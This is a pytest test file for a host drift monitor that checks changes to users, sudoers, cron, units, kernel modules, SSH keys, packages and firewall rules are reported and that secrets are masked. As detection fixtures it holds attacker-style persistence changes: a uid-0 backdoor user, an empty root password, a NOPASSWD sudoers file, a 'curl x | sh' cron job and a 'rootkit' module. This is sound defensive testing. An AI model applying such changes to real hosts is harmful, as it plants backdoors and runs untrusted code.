"""Real files in a scratch root, and real rules and sockets in a network namespace: what drifts is told within five seconds."""

import datetime as dt
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support import netns

from vedette.core.errors import VedetteError
from vedette.instruments.drift import comparing, packets, people, system
from vedette.instruments.drift.aspects import ASPECTS
from vedette.instruments.drift.drifting import Drift
from vedette.instruments.drift.hearing import others
from vedette.instruments.files.witnesses import Witnesses
from vedette.instruments.live import passwords
from vedette.instruments.live.host import HostLive
from vedette.instruments.live.memory import MemoryLive
from vedette.instruments.live.types import FileStatus, Listener, PasswordState, Sweep
from vedette.instruments.logs.types import EntryKind, LogEntry
from vedette.wire.agent.types import HostChange

NOW = 1_764_000_000.0
PASSWD = "root:x:0:0:root:/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFZ0nuFaWqPS1sE5OmF1KFqvT8BvIS1cJ6Rj0XaJc4yR anna@laptop"
OF_FILES = [one for one in ASPECTS if one.kind in {"user", "sudoers", "authorized-keys", "cron", "unit", "package", "sysctl", "module"}]  # fmt: skip


class Host:
    """A scratch host whose drift is watched; its clock is moved by hand."""

    def __init__(self, root: Path) -> None:
        self.root, self.now = root, NOW
        self.write("etc/passwd", PASSWD)
        self.write("etc/group", "root:x:0:\nsudo:x:27:\n")
        self.write("etc/shadow", "root:*:20000:0:99999:7:::\n")
        self.write("etc/sudoers", "# rules\n%sudo ALL=(ALL:ALL) ALL\n")
        self.write("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
        self.write("etc/systemd/system/shop.service", "[Service]\nExecStart=/opt/shop\n")
        self.write("proc/sys/net/ipv4/ip_forward", "0\n")
        self.write("proc/modules", "ext4 1 1 - Live 0x0\n")
        self.write("var/lib/dpkg/status", "Package: nginx\nStatus: install ok installed\nVersion: 1.0\n\nPackage: curl\nStatus: install ok installed\nVersion: 7\n")  # fmt: skip
        self.write("home/anna/.ssh/authorized_keys", KEY + "\n")
        for folder in ("etc/cron.d", "etc/sudoers.d", "var/spool/cron/crontabs", "var/log"):
            (root / folder).mkdir(parents=True)
        self.witnesses = Witnesses(root, dt.UTC)
        self.drift = self.started()
        assert self.first == []

    def started(self) -> Drift:
        found = Drift(self.witnesses, self.root / "state.json", self.root, aspects=OF_FILES)
        self.first = list(found.start(self.now))
        return found

    def write(self, path: str, text: str) -> None:
        target = self.root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        target.chmod(0o644)  # whatever others made of the mask of this process

    def told(self, seconds: float = 5.0) -> list[HostChange]:
        found: list[HostChange] = []
        end = self.now + seconds
        while self.now < end:
            found += self.drift.look(self.now, 0.0)
            self.now += 0.5
        return found


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    made = Host(tmp_path)
    yield made
    made.drift.close()


CHANGES = [
    ("user", "etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/sh\n", "user toor", "number 0, group 0, home /root, shell /bin/sh"),
    ("user", "etc/group", "root:x:0:\nsudo:x:27:anna\n", "group sudo", "number 27, members anna"),
    ("user", "etc/shadow", "root::20000:0:99999:7:::\n", "password of root", "empty, set on day 20000"),
    ("sudoers", "etc/sudoers.d/evil", "anna ALL=(ALL) NOPASSWD: ALL\n", "/etc/sudoers.d/evil", "anna ALL=(ALL) NOPASSWD: ALL"),
    ("cron", "var/spool/cron/crontabs/anna", "* * * * * curl x | sh\n", "/var/spool/cron/crontabs/anna", "mode 0644, owner 0\n* * * * * curl x | sh"),
    ("cron", "etc/cron.d/job", "* * * * * root TOKEN=hunter2 /x\n", "/etc/cron.d/job", "mode 0644, owner 0\n* * * * * root TOKEN=•••• /x"),
    ("unit", "etc/systemd/system/shop.service", "[Service]\nExecStart=/tmp/shop\n", "/etc/systemd/system/shop.service", "ExecStart=/tmp/shop"),
    ("sysctl", "proc/sys/net/ipv4/ip_forward", "1\n", "net.ipv4.ip_forward", "1"),
    ("module", "proc/modules", "ext4 1 1 - Live 0x0\nrootkit 1 1 - Live 0x0\n", "rootkit", "loaded"),
]  # fmt: skip


@pytest.mark.parametrize("change_", CHANGES, ids=[c[3] for c in CHANGES])
def test_a_change_is_told_once_within_five_seconds(host: Host, change_: tuple[str, ...]) -> None:
    kind, path, text, subject, after = change_
    other = host.root / (path + ".new")
    if path.startswith("etc/passwd"):  # as vipw does it
        other.write_text(text)
        other.rename(host.root / path)
    else:
        host.write(path, text)
    (change,) = host.told()
    assert (change.kind, change.subject, change.after) == (kind, subject, after)
    assert host.told() == []


def test_a_key_is_told_by_its_fingerprint(host: Host) -> None:
    host.write(
        "home/anna/.ssh/authorized_keys", f'{KEY}\nfrom="192.0.2.7" {KEY.replace("FZ0", "FZ1")} evil\n'
    )
    (change,) = host.told()
    assert change.subject.startswith("anna: ssh-ed25519 SHA256:")
    assert change.after == 'from="192.0.2.7" anna@laptop evil'
    assert "AAAAC3" not in repr(change)


def test_keys_of_a_user_who_came_later_are_watched(host: Host) -> None:
    host.write("etc/passwd", PASSWD + "bert:x:1001:1001::/home/bert:/bin/bash\n")
    (host.root / "home/bert").mkdir()
    assert [one.subject for one in host.told()] == ["user bert"]
    (host.root / "home/bert/.ssh").mkdir()
    assert host.told() == []
    host.write("home/bert/.ssh/authorized_keys", KEY)
    assert [one.subject[:5] for one in host.told()] == ["bert:"]


def test_what_nothing_reads_differently_is_no_drift(host: Host) -> None:
    host.write("etc/sudoers", "# other words\n\n%sudo ALL=(ALL:ALL) ALL\n")
    (host.root / "etc/passwd").chmod(0o600)
    assert host.told() == []


def test_packages_are_one_report_after_dpkg_rests(host: Host) -> None:
    log = host.root / "var/log/dpkg.log"
    stamp = dt.datetime.fromtimestamp(host.now, dt.UTC).strftime("%Y-%m-%d %H:%M:%S")
    log.write_text(f"{stamp} upgrade nginx:amd64 1.0 1.1\n{stamp} upgrade curl:amd64 7 8\n")
    import os

    os.utime(log, (host.now, host.now))
    host.write("var/lib/dpkg/status", "Package: nginx\nStatus: install ok installed\nVersion: 1.1\n\nPackage: curl\nStatus: install ok installed\nVersion: 8\n")  # fmt: skip
    assert host.told(10.0) == []
    (change,) = host.told(30.0)
    assert (change.subject, change.severity) == ("2 packages", "info")
    assert change.after == "curl: 7 → 8\nnginx: 1.0 → 1.1"
    assert change.explanation == "dpkg: upgrade nginx:amd64 1.0 → 1.1, upgrade curl:amd64 7 → 8"


def test_a_person_explains_it(host: Host) -> None:
    fields = {"command": "/usr/sbin/visudo -f /etc/sudoers.d/team", "as": "root"}
    host.witnesses.heard(LogEntry(parser="sudo", event="c", kind=EntryKind.COMMAND, service="sudo", at=NOW - 5, user="anna", fields=fields))  # fmt: skip
    host.write("etc/sudoers.d/team", "%team ALL=(ALL) ALL\n")
    (change,) = host.told()
    assert change.explanation.startswith("anna ran visudo … team as root")
    assert change.severity == "medium"


def test_a_restart_tells_what_changed_meanwhile(host: Host) -> None:
    host.drift.close()
    host.write("etc/crontab", "* * * * * root /tmp/x\n")
    host.drift = host.started()
    assert [one.subject for one in host.first] == ["/etc/crontab"]
    assert host.told() == []


NAMESPACE = """
import socket, subprocess, sys, time, pathlib, tempfile
import msgspec
from vedette.instruments.drift.aspects import ASPECTS
from vedette.instruments.drift.drifting import Drift
from vedette.instruments.files.witnesses import Witnesses

def nft(text):
    subprocess.run(["nft", "-f", "-"], input=text, text=True, check=True)

nft("table inet filter { set seen { type ipv4_addr; flags dynamic,timeout; timeout 1h; }; chain input { type filter hook input priority 0; }; };"
    "table inet vedette { set banned { type ipv4_addr; flags timeout; }; }")
folder = pathlib.Path(tempfile.mkdtemp())
drift = Drift(Witnesses(folder), folder / "state", aspects=[a for a in ASPECTS if a.kind in ("nftables", "port", "sysctl")])
assert list(drift.start(time.time())) == []
found, heard = [], []
def step(name, act, wanted):
    begun = time.time()
    act()
    told = []
    while time.time() - begun < 5 and len(told) < wanted:
        told += drift.look(time.time(), 1.0)
    if not wanted:
        told += drift.look(time.time(), 0.3) + drift.look(time.time() + 3, 0.0)
    found.append((name, round(time.time() - begun, 2), told))
step("rule", lambda: nft("add rule inet filter input tcp dport 4444 accept"), 1)
step("ours", lambda: nft("add element inet vedette banned { 198.51.100.7 timeout 1h }"), 0)
step("table", lambda: nft("add table ip evil"), 1)
if "all" in sys.argv:
    step("seen", lambda: nft("add element inet filter seen { 198.51.100.8 }"), 0)
    sock = socket.socket()
    step("open", lambda: (sock.bind(("0.0.0.0", 4444)), sock.listen()), 1)
    step("close", sock.close, 1)
    step("sysctl", lambda: pathlib.Path("/proc/sys/net/ipv4/conf/all/log_martians").write_text("1"), 1)
sys.stdout.write(msgspec.json.encode((drift._hearing.able, found)).decode())
"""


RULES = {
    "rule": [("nftables", "inet filter chain input", "", "tcp dport 4444 accept")],
    "ours": [],
    "table": [("nftables", "ip evil", "", "table")],
}
THE_REST = {
    "seen": [],
    "open": [("port", "tcp 0.0.0.0:4444", "", "python of root")],
    "close": [("port", "tcp 0.0.0.0:4444", "python of root", "")],
    "sysctl": [("sysctl", "net.ipv4.conf.all.log_martians", "0", "1")],
}


def in_a_namespace(word: str) -> dict[str, list[tuple[str, str, str, str]]]:
    done = subprocess.run(
        ["unshare", "-n", sys.executable, "-c", NAMESPACE, word], capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr.decode()
    able, steps = msgspec.json.decode(
        done.stdout, type=tuple[bool, list[tuple[str, float, list[HostChange]]]]
    )
    assert able
    assert max(seconds for _, seconds, _ in steps) < 5
    return {
        name: [(one.kind, one.subject, one.before, one.after) for one in changes]
        for name, _, changes in steps
    }


@pytest.mark.skipif(not netns.possible(), reason="only root makes namespaces")
def test_rules_that_somebody_adds_are_told_and_ours_are_not() -> None:
    assert in_a_namespace("rules") == RULES


@pytest.mark.skipif(not netns.possible(), reason="only root makes namespaces")
@pytest.mark.deep
def test_ports_and_kernel_values_are_told_too() -> None:
    assert in_a_namespace("all") == RULES | THE_REST


def test_messages_of_our_table_are_not_heard() -> None:
    import struct

    def message(family: int, table: bytes, kind: int = 12) -> bytes:
        name = table + b"\0"
        attribute = struct.pack("<HH", 4 + len(name), 1) + name + b"\0" * (-len(name) % 4)
        body = struct.pack(">BBH", family, 0, 0) + attribute
        return struct.pack("<IHHII", 16 + len(body), 10 << 8 | kind, 0, 1, 0) + body

    assert not others(message(1, b"vedette") + message(1, b"filter", kind=15))
    assert others(message(1, b"vedette") + message(1, b"filter"))
    assert others(message(2, b"vedette"))
    assert others(message(1, b"vedette2"))
    assert others(b"\x01" * 40)


def test_counters_and_filling_sets_are_left_out() -> None:
    text = (
        "table ip filter {\n\tset banned {\n\t\ttype ipv4_addr\n\t\tflags timeout\n\t\telements = { 192.0.2.1 timeout 1h,\n\t\t\t     192.0.2.2 }\n\t}\n\n"
        "\tset office {\n\t\ttype ipv4_addr\n\t\telements = { 192.0.2.9 }\n\t}\n\n\tchain input {\n\t\ttcp dport 22 accept\n\t}\n}\n"
    )
    live = MemoryLive(says={
        "nft -j list tables": '{"nftables": [{"metainfo": {}}, {"table": {"family": "ip", "name": "filter"}}, {"table": {"family": "inet", "name": "vedette"}}]}',
        "nft -s -nn list table ip filter": text,
    })  # fmt: skip
    assert packets.read(live) == {
        "ip filter": "table",
        "ip filter set banned": "type ipv4_addr\nflags timeout",
        "ip filter set office": "type ipv4_addr\nelements = { 192.0.2.9 }",
        "ip filter chain input": "tcp dport 22 accept",
    }


def test_sshd_is_compared_by_option() -> None:
    was = system.sshd(MemoryLive(says={"sshd -T": "port 22\nhostkey a\nhostkey b\npermitrootlogin no\n"}))
    now = system.sshd(MemoryLive(says={"sshd -T": "port 22\nhostkey a\nhostkey b\npermitrootlogin yes\n"}))
    (one,) = comparing.differences(was, now)
    assert (one.subject, one.before, one.after) == ("permitrootlogin", "no", "yes")
    assert system.sshd(MemoryLive()) == {}


def test_of_a_long_change_a_few_lines_are_told() -> None:
    (one,) = comparing.differences({"x": "a\nb\n"}, {"x": "a\n" + "".join(f"line {n}\n" for n in range(50))})
    assert one.before == "b"
    assert one.after.splitlines()[-1] == "and 44 more lines"


def test_nothing_is_shown_raw() -> None:
    (one,) = comparing.differences({}, {"\x1b[2Jx": "\x1b]0;evil\x07 password='hunter 2' https://a:b@c/"})
    assert "\x1b" not in one.subject + one.after
    assert "hunter" not in one.after
    assert "a:b" not in one.after


def test_lines_that_are_no_keys_are_told_apart() -> None:
    live = MemoryLive({"/etc/passwd": PASSWD, "/root/.ssh/authorized_keys": "rubbish\nssh-rsa !!!\n"})
    assert people.keys(live) == {"root: unknown line": "rubbish", "root: ssh-rsa that is none": ""}


def test_all_of_this_machine_is_read() -> None:
    live = HostLive(NOW)
    read = {one.kind: one.read(live) for one in ASPECTS if one.kind not in {"sshd", "nftables"}}
    assert {"sysctl", "user", "package"} <= {kind for kind, state in read.items() if state}


def test_a_very_long_text_is_kept_short_and_still_compared() -> None:
    text = "".join(f"element {n}\n" for n in range(20_000))
    was, now = comparing.bounded(text), comparing.bounded(text.replace("element 19999", "element 1e5"))
    assert len(was) < 40_000
    (one,) = comparing.differences({"set": was}, {"set": now})
    assert "characters in all" in one.before


class Rubbish:
    """A host whose files and programs hold whatever a test likes."""

    now = NOW

    def __init__(self, text: str) -> None:
        self._text = text

    def text(self, path: str) -> str:
        return self._text

    def names(self, path: str) -> tuple[str, ...]:
        return ("a", "authorized_keys")

    def ran(self, *argv: str) -> str:
        return self._text

    def status(self, path: str) -> FileStatus:
        return FileStatus(kind="file", mode=0o644)

    def passwords(self) -> tuple[PasswordState, ...]:
        return passwords.states(self._text)

    def listening(self) -> tuple[Listener, ...]:
        return ()

    def sweep(self) -> Sweep:
        return Sweep()


LINES = st.lists(st.sampled_from(["a:x:0:0:g:/h:/bin/sh", "ssh-ed25519 AAAA c", "\tchain x {", "\t}", "table", "\x00\x1b", '{"nftables": []}', "::::::", "Package: x", "Status: install ok installed"]) | st.text(max_size=40), max_size=12).map("\n".join)  # fmt: skip


@given(before=LINES, after=LINES, packet=st.binary(max_size=80))
@settings(max_examples=15, deadline=None)
def test_whatever_files_hold_is_read_or_refused(before: str, after: str, packet: bytes) -> None:
    for aspect in ASPECTS:
        try:
            states = [aspect.read(Rubbish(text)) for text in (before, after)]
        except (VedetteError, ValueError, LookupError, TypeError):
            continue
        for one in comparing.differences(*states):
            assert all(c.isprintable() or c == "\n" for c in one.subject + one.before + one.after)
    others(packet)
